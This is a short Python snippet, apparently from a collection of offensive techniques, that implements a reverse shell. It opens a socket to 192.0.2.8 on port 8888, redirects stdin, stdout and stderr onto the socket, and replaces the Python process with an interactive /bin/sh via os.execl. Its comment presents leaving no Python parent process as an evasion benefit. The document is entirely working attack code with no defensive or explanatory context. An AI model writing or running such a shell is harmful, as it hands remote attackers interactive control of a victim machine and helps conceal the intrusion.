# technique: reverse shell that replaces the python process with sh via os.execl after dup2, leaving no python parent behind
import os,socket
c=socket.create_connection(("192.0.2.8",8888))
f=c.detach()
for n in (0,1,2):os.dup2(f,n)
os.execl("/bin/sh","sh","-i")
